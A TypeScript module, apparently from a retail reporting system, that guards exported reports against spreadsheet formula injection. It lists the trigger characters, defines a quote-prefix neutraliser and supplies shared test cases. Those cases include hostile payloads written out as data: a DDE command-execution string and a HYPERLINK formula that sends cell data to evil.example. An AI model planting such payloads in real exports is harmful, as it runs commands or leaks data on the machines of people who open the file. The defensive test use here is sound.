/**
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a spreadsheet program reads a cell that starts
 * with one of these characters as a formula (`=`, `+`, `-`, `@`), or — tab and carriage return — may drop
 * the character and read what follows as one. A product named `=cmd|' /C calc'!A0` would run on the
 * auditor's machine when the report is opened.
 *
 * The hub writes report text in two places: TypeScript (the XLSX writer) and SQL (the CSV comes straight
 * out of PostgreSQL's COPY). Both take the characters from here; the SQL expression is generated from
 * this list and tested against the same cases as the function below.
 */
export const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];

/**
 * OWASP's rule: a text cell that starts with a formula trigger gets a single quote in front, which every
 * spreadsheet program shows as text. Only for text: numbers are written as numbers and never pass here
 * (a negative variance stays a negative number). Idempotent, since `'` is no trigger, so text
 * neutralised once (by SQL) and again (by the XLSX writer) is still prefixed once.
 */
export function neutraliseFormula(text: string): string {
  return text.length > 0 && FORMULA_TRIGGERS.includes(text[0]) ? `'${text}` : text;
}

/**
 * The cases every implementation of the rule is checked against (the TypeScript function in shared's
 * tests, the SQL expression against PostgreSQL in the hub's): [cell text, what a report writes].
 */
export const FORMULA_NEUTRALISING_CASES: ReadonlyArray<readonly [string, string]> = [
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  ['=1+1', `'=1+1`],
  [`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
  ['@SUM(1)', `'@SUM(1)`],
  ['+1', `'+1`],
  ['-1', `'-1`],
  ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `'\r=1+1`],
  ['\t', `'\t`],
  ['=', `'=`],
  ['Crisps, salted', 'Crisps, salted'],
  ['', ''],
  [' =1+1', ' =1+1'], // OWASP's rule is the first character only
  ['a=1', 'a=1'],
  ['1-2', '1-2'],
  [`'=1+1`, `'=1+1`], // already neutralised: not prefixed twice
  ['"quoted"', '"quoted"'],
  ['\n=1+1', '\n=1+1'],
  ['薯片 原味', '薯片 原味'],
  ['＝1+1', '＝1+1'], // full-width equals: no formula in Excel, LibreOffice or Sheets
  ['😀=1', '😀=1'],
];
